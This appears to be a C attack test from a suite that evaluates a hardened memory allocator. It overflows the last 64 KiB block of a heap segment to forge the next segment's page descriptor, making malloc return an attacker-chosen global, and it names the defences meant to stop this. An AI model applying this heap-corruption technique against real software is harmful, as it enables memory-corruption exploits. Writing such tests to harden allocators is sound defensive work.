/* overflow_medium_next_segment: linear overflow off the last block of a
 * medium segment into the next medium segment's page descriptor, forging
 * its free list.
 *
 * Bug modelled: a write of 264 bytes past the end of a malloc(65536) buffer.
 * 64 KiB blocks fill medium pages exactly, so the last block of a segment
 * ends at the segment's end; the next segment is often mapped right there.
 *
 * Steps:
 *  1. malloc(65536) repeatedly (memory untouched): each medium segment holds
 *     63 such blocks, then a new one is mapped. Stop when a new segment
 *     starts exactly where an earlier block ends.
 *  2. The new segment's page 0 is the page malloc(65536) now uses. Overflow
 *     the earlier block: header filler, then page 0's descriptor with
 *     free = &target, keys = {&target, 0}, the other fields plausible.
 *  3. malloc(65536).
 * WIN: malloc returns &target, a global of this program.
 * Defence that should stop it: a guard page (or gap) after each segment;
 * authenticated descriptors / out-of-line metadata. */
/* ---- harness (every attack file carries its own copy) ------------------- */
#define _GNU_SOURCE
#include <malloc.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define MIB ((uintptr_t)1 << 20)
#define SEG ((uintptr_t)4 << 20) /* hardheap segment size and alignment */

static void say(const char* prefix, const char* fmt, va_list ap) {
  char buf[600];
  int n = snprintf(buf, sizeof buf, "%s", prefix);
  int m = vsnprintf(buf + n, sizeof buf - (size_t)n - 1, fmt, ap);
  if (m < 0) m = 0;
  n += m;
  if (n > (int)sizeof buf - 2) n = (int)sizeof buf - 2;
  buf[n++] = '\n';
  if (write(1, buf, (size_t)n) < 0) _exit(5);
}
__attribute__((unused)) static void note(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  say("note: ", fmt, ap);
  va_end(ap);
}
__attribute__((unused)) static _Noreturn void win(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  say("ATTACK WIN: ", fmt, ap);
  va_end(ap);
  _exit(0);
}
__attribute__((unused)) static _Noreturn void lost(const char* fmt, ...) {
  va_list ap;
  va_start(ap, fmt);
  say("ATTACK LOST: ", fmt, ap);
  va_end(ap);
  _exit(3);
}
static void on_alarm(int sig) {
  (void)sig;
  static const char msg[] = "ATTACK HANG: the allocator did not return within the time limit\n";
  if (write(1, msg, sizeof msg - 1) < 0) _exit(5);
  _exit(4);
}
static void start(unsigned seconds) {
  signal(SIGALRM, on_alarm);
  alarm(seconds);
}
/* Pointers go through a volatile slot so the compiler cannot see the
 * use-after-free or the bad free (the bug being modelled). */
static void* volatile launder_slot;
__attribute__((unused)) static void* hide(void* p) {
  launder_slot = p;
  return launder_slot;
}
__attribute__((unused)) static uintptr_t peek(const void* p) { return *(const volatile uintptr_t*)p; }
__attribute__((unused)) static void poke(void* p, uintptr_t v) { *(volatile uintptr_t*)p = v; }
/* ------------------------------------------------------------------------- */

static uintptr_t target[8] __attribute__((aligned(64)));

int main(void) {
  start(10);
  static uintptr_t blk[600];
  uintptr_t src = 0, seg = 0;
  for (int n = 0; n < 600 && src == 0; n++) {
    blk[n] = (uintptr_t)hide(malloc(65536));
    uintptr_t s = blk[n] & ~(SEG - 1);
    if (blk[n] - s >= 65536 + 16384) continue; /* not the first block of a segment */
    for (int j = 0; j < n; j++)
      if (blk[j] + 65536 == s) { src = blk[j]; seg = s; }
  }
  if (src == 0) lost("no medium segment was mapped right after another");
  note("block %p ends at the medium segment %p", (void*)src, (void*)seg);
  unsigned char* o = (unsigned char*)src + 65536;
  unsigned char d[128];
  memset(d, 0, sizeof d);
  uintptr_t v;
  v = (uintptr_t)target; memcpy(d + 0, &v, 8);   /* free */
  uint32_t u = 1;        memcpy(d + 8, &u, 4);   /* used */
  d[14] = 1;                                     /* segment_in_use */
  v = 65536;             memcpy(d + 32, &v, 8);  /* block_size */
  v = seg + 16384;       memcpy(d + 40, &v, 8);  /* page_start (guess) */
  u = 7;                 memcpy(d + 48, &u, 4); memcpy(d + 52, &u, 4);
  v = 2;                 memcpy(d + 56, &v, 8);  /* thread_free: NO_DELAYED */
  v = (uintptr_t)target; memcpy(d + 72, &v, 8);  /* keys[0]; keys[1] = 0 */
  memset(o, 0x41, 136);  /* header */
  memcpy(o + 136, d, sizeof d);
  void* q = hide(malloc(65536));
  if (q == (void*)target) win("malloc(65536) returned %p, the address of a global chosen by the attacker", q);
  lost("malloc(65536) returned %p", q);
}
